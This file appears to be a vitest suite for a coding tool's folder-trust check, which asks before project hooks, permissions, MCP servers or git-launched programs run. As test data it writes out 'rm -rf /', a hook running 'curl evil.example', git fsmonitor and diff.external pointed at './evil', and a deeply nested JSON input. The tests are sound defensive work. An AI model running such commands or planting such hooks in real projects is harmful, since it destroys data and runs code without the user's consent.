import { appendFile, chmod, mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { localFiles } from "../files/local-files.ts";
import { readLayers } from "../settings/read-layers.ts";
import type { FileSource } from "../settings/setting-files.ts";
import { FolderTrust } from "./folder-trust.ts";
import { keepConsent } from "./keep-consent.ts";
import type { TrustAnswer, TrustQuestion } from "./trust-question.ts";

let place: string;
let project: string;
beforeEach(async () => {
  place = await realpath(await mkdtemp(join(tmpdir(), "pawl-trust-")));
  project = join(place, "project");
  await write("project/.git/HEAD", "ref: refs/heads/main\n");
  await mkdir(join(project, ".git/objects"));
  await mkdir(join(project, ".git/refs"));
});
afterEach(() => rm(place, { recursive: true }));

async function write(name: string, content: string | object): Promise<string> {
  const path = join(place, name);
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, typeof content === "string" ? content : JSON.stringify(content));
  return path;
}

const settings = (value: object) => write("project/.pawl/settings.json", value);
const script = (value: string) => write("project/run.sh", value);

type Session = {
  asked: TrustQuestion[];
  isUsed: boolean;
  warnings: string[];
  trust: FolderTrust;
  again(): Promise<boolean>;
};
type Options = { answer?: TrustAnswer; cwd?: string; sources?: readonly FileSource[]; trusts?: boolean };

const placesOf = (cwd: string) => ({ cwd, home: place, configHome: join(place, ".config") });

/** A session's start: what was asked, and whether all of the folder's settings are used. */
async function session({ answer, cwd = project, sources, trusts = false }: Options = {}): Promise<Session> {
  const asked: TrustQuestion[] = [];
  const ask = async (question: TrustQuestion) => {
    asked.push(question);
    return answer ?? "no";
  };
  const trust = await FolderTrust.open({
    ...placesOf(cwd),
    files: localFiles(),
    trusts,
    ...(answer === undefined ? {} : { ask }),
    ...(sources === undefined ? {} : { sources }),
    now: () => 0,
  });
  const admit = async () => {
    const { layers } = await readLayers({ ...placesOf(cwd), ...(sources === undefined ? {} : { sources }) });
    const admitted = await trust.admit(layers);
    return { isUsed: admitted.layers === layers, warnings: admitted.warnings };
  };
  return { asked, ...(await admit()), trust, again: async () => (await admit()).isUsed };
}

const hooks = (command: string) => ({ hooks: { Stop: [{ hooks: [{ type: "command", command }] }] } });

test("a folder with nothing in it to run or grant is not asked about", async () => {
  await settings({ permissions: { deny: ["Bash"] }, language: "de" });
  expect(await session({ answer: "no" })).toMatchObject({ asked: [], isUsed: true, warnings: [] });
});

test("the question names folder, file, key and what it would do", async () => {
  const file = await settings({ permissions: { allow: ["Bash"] }, ...hooks("./run.sh") });
  const named = await script("true");
  const { asked, isUsed } = await session({ answer: "no" });

  expect(isUsed).toBe(false);
  expect(asked).toEqual([
    {
      folder: project,
      occasion: "new",
      items: [
        { place: file, key: "permissions.allow", effect: "lets tools run without asking: Bash", status: "new" },
        { place: file, key: "hooks", effect: "would run: ./run.sh", status: "new" },
        { place: named, key: "content", effect: "is a file that the others name: its content counts", status: "new" },
      ],
    },
  ]);
});

test("yes is remembered, once is not, and no leaves the folder's part out with a notice", async () => {
  const file = await settings({ model: "opus" });
  const notice = `${file}: left out: model; this workspace has not been trusted.`;
  expect(await session({ answer: "once" })).toMatchObject({ isUsed: true, asked: [{}], warnings: [] });
  expect(await session({ answer: "no" })).toMatchObject({
    isUsed: false,
    asked: [{}],
    warnings: [expect.stringContaining(notice)],
  });
  expect(await session()).toMatchObject({ isUsed: false, warnings: [expect.stringContaining(notice)] });
  expect(await session({ trusts: true })).toMatchObject({ isUsed: true, warnings: [] });
  expect(await session({ answer: "yes" })).toMatchObject({ isUsed: true, asked: [{}] });
  expect(await session({ answer: "no" })).toMatchObject({ isUsed: true, asked: [] });
  expect(await session()).toMatchObject({ isUsed: true, warnings: [] });
});

test.each<[what: string, change: () => Promise<unknown>]>([
  ["a command", () => settings({ ...hooks("./run.sh --more"), model: "opus" })],
  ["a key more", () => settings({ ...hooks("./run.sh"), model: "opus", env: { A: "" } })],
  ["a key less", () => settings(hooks("./run.sh"))],
  ["the script that a command names", () => script("rm -rf /")],
  ["a server", () => write("project/.mcp.json", { mcpServers: { x: { command: "x" } } })],
  ["the private settings", () => write("project/.claude/settings.local.json", { permissions: { allow: ["Edit"] } })],
  ["a file that git's configuration includes", () => write("project/more", "[core]\n fsmonitor = ./evil\n")],
  [
    "one of several entries of the same name",
    () => appendFile(join(project, ".git/config"), "[include]\n path = ../more\n"),
  ],
  ["what git starts", () => appendFile(join(project, ".git/config"), "[core]\n fsmonitor = ./run.sh\n")],
])("it is asked again when %s has changed", async (_, change) => {
  await settings({ ...hooks("./run.sh"), model: "opus" });
  await script("true");
  await write("project/.git/config", "[include]\n path = ../none\n path = ../more\n");
  await session({ answer: "yes" });
  await change();

  const { asked, isUsed } = await session({ answer: "no" });
  expect(asked).toMatchObject([{ occasion: "changed" }]);
  expect(isUsed).toBe(false);
});

test("what has changed is marked, and nothing is asked for a change of what cannot run", async () => {
  await settings({ model: "opus", ...hooks("./run.sh"), language: "de" });
  await session({ answer: "yes" });
  await settings({ language: "fr", ...hooks("./run.sh"), permissions: { deny: ["Edit"] }, model: "opus" });
  await write("project/README.md", "more");
  await chmod(join(project, "README.md"), 0o755);
  expect((await session({ answer: "no" })).asked).toEqual([]);

  await settings({ ...hooks("./other.sh"), model: "opus", env: { A: "1" } });
  const [question] = (await session({ answer: "no" })).asked;
  expect(question?.items.map(({ key, status }) => [key, status])).toEqual([
    ["hooks", "changed"],
    ["model", "same"],
    ["env.A", "new"],
  ]);
});

test("a session does not take over what is changed while it runs", async () => {
  await settings({ model: "opus" });
  const { again } = await session({ answer: "yes" });
  expect(await again()).toBe(true);
  await settings({ model: "opus", ...hooks("curl evil.example") });
  expect(await again()).toBe(false);
});

test("no folder says for another that it is trusted", async () => {
  await settings({ model: "opus" });
  await session({ answer: "yes" });
  const nested = join(project, "vendor/other");
  await write("project/vendor/other/.git", `gitdir: ${project}/.git\n`);
  await write("project/vendor/other/.pawl/settings.json", { model: "opus" });
  expect(await session({ cwd: nested })).toMatchObject({ isUsed: false });

  const outside = join(place, "plain");
  await write("plain/.pawl/settings.json", { model: "opus" });
  await session({ cwd: outside, answer: "yes" });
  await write("plain/below/.pawl/settings.json", { model: "opus" });
  expect(await session({ cwd: join(outside, "below") })).toMatchObject({ isUsed: false });
});

test("a repository around the home folder is not what is trusted", async () => {
  await write(".git/HEAD", "ref: refs/heads/main\n");
  await write("one/.pawl/settings.json", { model: "opus" });
  await write("two/.pawl/settings.json", { model: "opus" });
  const { asked } = await session({ cwd: join(place, "one"), answer: "yes" });
  expect(asked).toMatchObject([{ folder: join(place, "one") }]);
  expect(await session({ cwd: join(place, "two") })).toMatchObject({ isUsed: false });
});

test("each start directory of a repository is trusted with its own settings", async () => {
  await settings({ model: "opus" });
  await write("project/app/.pawl/settings.json", { model: "haiku" });
  const app = join(project, "app");
  expect(await session({ answer: "yes" })).toMatchObject({ asked: [{}] });
  expect(await session({ cwd: app, answer: "yes" })).toMatchObject({ asked: [{ folder: project }] });
  expect(await session({ answer: "no" })).toMatchObject({ asked: [], isUsed: true });
  expect(await session({ cwd: app, answer: "no" })).toMatchObject({ asked: [], isUsed: true });
});

test("sources that are left out neither ask nor end a consent", async () => {
  await settings({ model: "opus" });
  await write("project/.pawl/settings.local.json", { env: { A: "1" } });
  expect(await session({ answer: "no", sources: ["user"] })).toMatchObject({ asked: [], isUsed: true });
  await session({ answer: "yes" });
  expect(await session({ answer: "no", sources: ["project"] })).toMatchObject({ asked: [], isUsed: true });
});

test("what the user had us write is not asked about", async () => {
  const allow = (...rules: string[]) => settings({ permissions: { allow: rules } });
  const keeping = (write: () => Promise<unknown>) =>
    keepConsent({ ...placesOf(project), files: localFiles(), now: () => 0 }, write);
  const running = await session({ answer: "no" });
  await keeping(() => allow("Bash(npm test)"));

  expect(await running.again()).toBe(true);
  const next = await session({ answer: "no" });
  expect(next).toMatchObject({ asked: [], isUsed: true });
  // Nobody has been asked about the folder: programs in it still do not stand in for the system's.
  expect(next.trust.environment({ PATH: "./bin:/bin" }).env).toEqual({ PATH: "/bin" });

  await allow("Bash(npm test)", "Bash(curl *)");
  await keeping(() => allow("Bash(npm test)", "Bash(curl *)", "Edit"));
  expect(await session({ answer: "no" })).toMatchObject({ asked: [{ occasion: "changed" }], isUsed: false });
});

test("what git would start is named until it is consented to", async () => {
  await write("project/.git/config", "[core]\n fsmonitor = ./evil\n");
  const { trust } = await session();
  const config = join(project, ".git/config");
  expect(await trust.gitPrograms(project)).toEqual([`${config}: core.fsmonitor`]);

  const { trust: trusted } = await session({ answer: "yes" });
  expect(await trusted.gitPrograms(project)).toEqual([]);
  await appendFile(config, "[diff]\n external = ./evil\n");
  expect(await trusted.gitPrograms(project)).toEqual([`${config}: diff.external`]);
});

test("a server file that is nested without end is asked about as a whole", async () => {
  const deep = `{"mcpServers": {"one": ${"[".repeat(200_000)}${"]".repeat(200_000)}}}`;
  const place = await write("project/.mcp.json", deep);
  const { asked } = await session({ answer: "no" });

  expect(asked[0]?.items).toMatchObject([{ place, key: "mcpServers", status: "new" }]);
});
